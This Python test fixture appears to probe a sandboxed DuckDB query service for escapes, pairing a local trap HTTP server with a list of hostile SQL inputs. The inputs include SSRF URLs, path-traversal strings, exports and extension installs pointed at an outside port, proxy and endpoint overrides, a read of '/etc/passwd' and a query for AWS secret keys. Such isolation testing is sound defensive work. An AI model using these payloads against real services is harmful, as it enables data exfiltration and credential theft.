"""Attempts to get out through the gate or the cache of a session, and a server of somebody else that none may reach."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager

READERS = ("read_text", "read_blob", "read_parquet", "read_csv", "read_json", "glob", "parquet_metadata", "sniff_csv")
ATTEMPTS = [
    # other hosts and ports
    *(f"FROM {reader}('http://127.0.0.1:{{trap}}/x')" for reader in READERS),
    "FROM read_text('http://localhost:{port}/{token}/0')",
    "FROM read_text('https://127.0.0.1:{port}/{token}/0')",
    "FROM read_text('http://user:password@127.0.0.1:{port}/{token}/0')",
    "FROM read_text('http://127.0.0.1:{port}@127.0.0.1:{trap}/{token}/0')",
    "FROM read_text('http://127.0.0.1:{port}.example.com/{token}/0')",
    "FROM read_text('http://127.0.0.1:{trap}#http://127.0.0.1:{port}/{token}/0')",
    "FROM read_text('hf://datasets/a/b')",
    "FROM 'http://127.0.0.1:{trap}/x.parquet'",
    # the store itself
    "FROM read_text('{location}/{key}')",
    "FROM read_text('{location}/{key}?s3_endpoint=127.0.0.1:{trap}')",
    "FROM read_text('s3://bucket/x?s3_endpoint=127.0.0.1:{trap}&s3_use_ssl=false')",
    "FROM read_text('s3a://bucket/x')",
    "FROM read_text('gs://bucket/x')",
    "FROM read_text('r2://bucket/x')",
    "FROM read_text('az://bucket/x')",
    # other keys, through the gate
    "FROM read_text('{gate}1000')",
    "FROM read_text('{gate}{key}')",
    "FROM read_text('{gate}../{key}')",
    "FROM read_text('{gate}%2e%2e/{key}')",
    "FROM read_text('{gate}..%2f{key}')",
    "FROM read_text('{gate}0?s3_endpoint=127.0.0.1:{trap}')",
    "FROM read_text('{gate}http://127.0.0.1:{trap}/x')",
    "FROM read_text('{gate}/127.0.0.1:{trap}/x')",
    "FROM read_text('{gate}../../127.0.0.1:{trap}')",
    "FROM glob('{gate}*')",
    "FROM read_text('{gate}*')",
    "FROM read_text('http://127.0.0.1:{port}/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/0')",
    # the cache by its paths
    "FROM read_blob('{cache}/{other}')",
    "FROM read_parquet('{cache}/{other}')",
    "FROM read_blob('{links}/../{other}')",
    "FROM read_blob('{links}/../*')",
    "FROM glob('{cache}/*')",
    "FROM read_blob('{foreign}/*')",
    "FROM read_text('{cache}/../catalog.db')",
    # writing
    "COPY (SELECT 1) TO '{gate}0'",
    "COPY (SELECT 1) TO 'http://127.0.0.1:{trap}/x.csv'",
    "COPY app_log TO 's3://bucket/x.parquet'",
    "COPY (SELECT 1) TO '{links}/x.csv'",
    "EXPORT DATABASE 'http://127.0.0.1:{trap}/'",
    # databases, extensions, settings, secrets
    "ATTACH '{gate}0' AS other",
    "ATTACH 'http://127.0.0.1:{trap}/x.db' AS other",
    "ATTACH 's3://bucket/x.db' AS other (READ_ONLY)",
    "INSTALL aws",
    "INSTALL httpfs FROM 'http://127.0.0.1:{trap}'",
    "LOAD aws",
    "LOAD '{links}/x.duckdb_extension'",
    "FORCE INSTALL httpfs",
    "SET http_proxy = '127.0.0.1:{trap}'",
    "SET GLOBAL http_proxy = '127.0.0.1:{trap}'",
    "SET s3_endpoint = '127.0.0.1:{trap}'",
    "SET s3_access_key_id = 'x'",
    "SET allowed_directories = ['/']",
    "SET enable_external_access = true",
    "SET ca_cert_file = '/etc/passwd'",
    "SET httpfs_client_implementation = 'curl'",
    "SET http_logging_output = '/tmp/x'",
    "SET lock_configuration = false",
    "RESET http_proxy",
    "PRAGMA enable_logging('HTTP')",
    "CALL enable_logging('HTTP')",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '127.0.0.1:{trap}')",
    "CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'a')",
    "CREATE SECRET s (TYPE http, HTTP_PROXY 'http://127.0.0.1:{trap}')",
    "DROP SECRET s",
    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    "FROM query('FROM read_text(''http://127.0.0.1:{trap}/x'')')",
]
QUIET = [
    "FROM duckdb_secrets()",
    "FROM which_secret('s3://bucket/x', 's3')",
    "FROM duckdb_settings()",
    "FROM duckdb_variables()",
    "FROM duckdb_views()",
    "FROM duckdb_logs()",
    "FROM duckdb_extensions()",
    "FROM duckdb_external_file_cache()",
    "FROM tp_catalog.files",
    "EXPLAIN ANALYZE SELECT max(n) FROM app_log",
]
"""Statements that may be answered; no answer holds a credential."""


class _Trap(http.server.BaseHTTPRequestHandler):
    seen: list[str]

    def do_any(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(302)
        self.send_header("Location", "http://127.0.0.1:1/")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def trapping() -> Iterator[tuple[int, list[str]]]:
    """The port of a server of somebody else, and what reached it."""
    methods = {f"do_{name}": _Trap.do_any for name in ("GET", "HEAD", "POST", "PUT", "CONNECT")}
    seen: list[str] = []
    handler = type("Trap", (_Trap,), {"seen": seen, **methods})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()
